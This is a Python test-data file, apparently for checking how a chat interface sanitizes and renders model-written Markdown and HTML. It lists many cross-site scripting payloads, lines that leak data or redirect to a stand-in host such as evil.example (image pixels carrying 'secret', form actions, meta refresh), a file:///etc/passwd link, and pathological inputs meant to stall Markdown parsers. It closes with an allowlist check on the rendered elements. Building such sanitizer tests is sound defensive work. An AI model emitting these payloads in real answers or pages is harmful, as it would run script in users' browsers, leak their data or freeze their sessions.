"""What a model may write that is meant to run, or to reach out, in somebody's browser."""

TEXTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.gif?data=secret>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)><embed src=javascript:alert(1)>",
    "<body onload=alert(1)><input autofocus onfocus=alert(1)><details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "<form action=https://evil.example><button>Send</button></form>",
    "<base href=https://evil.example/><link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<style>@import 'https://evil.example/x.css'; * { background: url(https://evil.example/) }</style>",
    "<template><script>alert(1)</script></template><noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "</textarea></title></style></script><script>alert(1)</script>",
    "<div id=message name=send>clobber</div><img name=body><form id=transcript>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](java\nscript:alert(1))",
    "[click]( javascript:alert(1))",
    "[click](\x01javascript:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](javascript%3Aalert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[click](blob:https://evil.example/x)",
    "[click](file:///etc/passwd)",
    "[click](//evil.example/x)",
    "[click](/api/chats)",
    "[click](#chat_x)",
    "[click](https://user:secret@evil.example/)",
    "[click](https://evil.example\" onmouseover=\"alert(1))",
    "[click](https://evil.example/'onclick='alert(1))",
    "[click](https://good.example/\u202egpj.exe)",
    "[click](<javascript:alert(1)>)",
    "[a]: javascript:alert(1)\n\n[a] [click][a]",
    "<javascript:alert(1)>",
    "<https://evil.example/\"onmouseover=alert(1)>",
    "https://evil.example/\"onmouseover=\"alert(1)",
    "https://evil.example/<script>alert(1)</script>",
    "![x](https://evil.example/pixel.gif?q=secret)",
    "![x](javascript:alert(1))",
    "![x](x\" onerror=\"alert(1))",
    "[![x](https://evil.example/a.gif)](javascript:alert(1))",
    "[a](https://x.example/(((((((((((((((((((((((((((((((((( \"t\" onclick=alert(1))",
    "```html\n<script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\ncode\n```",
    "```js\" onload=\"alert(1)\ncode\n```",
    "`<img src=x onerror=alert(1)>`",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "- <svg/onload=alert(1)>\n  - [x] <img src=x onerror=alert(1)>",
    "> <script>alert(1)</script>\n> > <iframe src=javascript:alert(1)>",
    "# <script>alert(1)</script>",
    "**<b onmouseover=alert(1)>bold</b>** *<i onclick=alert(1)>* ~~<u onfocus=alert(1)>~~",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script\\>alert(1)\\</script\\>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\ufeff<script>alert(1)</script>\u2028<script>alert(1)</script>",
    "\u0002<img src=x onerror=alert(1)>\u0003",
    "${alert(1)} {{constructor.constructor('alert(1)')()}} #{alert(1)} <%= alert(1) %>",
    "<!--<img src=x onerror=alert(1)>--><![CDATA[<script>alert(1)</script>]]><?php alert(1) ?>",
    "1. <x style=position:fixed;inset:0;background:red>cover</x>",
    "<a href=https://evil.example ping=https://evil.example/ping target=_top>x</a>",
    "<link rel=prefetch href=https://evil.example/><video poster=https://evil.example/p src=x onerror=alert(1)>",
]

# What takes a careless reader of Markdown for ever.
ENDLESS = [
    "*" * 30_000,
    "*a " * 15_000,
    "*a* " * 15_000,
    "**a_" * 10_000,
    "_a__b" * 10_000,
    "[" * 30_000,
    "[a](" * 8_000,
    "![" * 20_000,
    "[a](<" * 8_000,
    "]" * 30_000,
    "`" * 30_000,
    "".join("`" * n + " " for n in range(1, 250)),
    "<" * 30_000,
    "<https://" * 6_000,
    "https://" * 6_000,
    "https://a.example/" + ")" * 30_000,
    "\\" * 30_000,
    "> " * 15_000,
    "- " * 15_000,
    "- a\n" * 10_000,
    "".join("  " * n + "- a\n" for n in range(200)),
    "1. " * 15_000,
    "#" * 30_000,
    "# a" + " " * 30_000 + "b",
    "# a" + " #" * 15_000,
    "a" + " " * 30_000 + "b\nc",
    "|" * 30_000 + "\n" + "|-" * 15_000,
    "| a " * 10_000 + "\n" + "|-" * 10_000 + "|\n" + "| b " * 10_000,
    "-" + " " * 30_000 + "x",
    "|a|\n|-" + " " * 30_000 + "x|",
    "```" + " " * 30_000 + "`",
    "~~" * 15_000,
    "* * " * 8_000 + "x",
    "a\n" * 20_000,
    "```js\n" + "'" * 19_000,
    "```js\n" + "/*" * 9_000,
    "```py\n" + "\"\"\"a" * 4_000,
    "```js\n" + "1e" * 9_000,
    "\t" * 20_000 + "- x",
    "[" * 5_000 + "a" + "](https://a.example)" * 1_000,
]

# What a rendered answer may consist of.
ELEMENTS = (
    "div p h3 h4 h5 h6 hr figure figcaption span button svg use pre code blockquote ul ol li input table thead tbody tr th td "
    "strong em s br a"
).split()
ATTRIBUTES = (
    "class href title target rel tabindex role aria-label aria-hidden type disabled checked start scope"
).split()
CHECK = """
(root) => {
  const elements = new Set(%r), attributes = new Set(%r), wrong = [];
  for (const element of root.querySelectorAll("*")) {
    const name = element.localName;
    if (!elements.has(name)) wrong.push(`element ${name}`);
    for (const { name: attribute, value } of element.attributes) {
      if (!attributes.has(attribute)) wrong.push(`${name} ${attribute}`);
      if (attribute === "href" && name === "a" && !/^https?:\\/\\/[^@]*$/.test(value.split(/[/?#]/).slice(0, 3).join("/"))) wrong.push(`href ${value}`);
      if (attribute === "href" && name === "use" && !/^#i-[a-z]+$/.test(value)) wrong.push(`use ${value}`);
      if (name === "a" && attribute === "rel" && !/noopener/.test(value)) wrong.push("rel");
    }
    if (name === "a" && !element.hasAttribute("rel")) wrong.push("a without rel");
  }
  return wrong;
}
""" % (ELEMENTS, ATTRIBUTES)
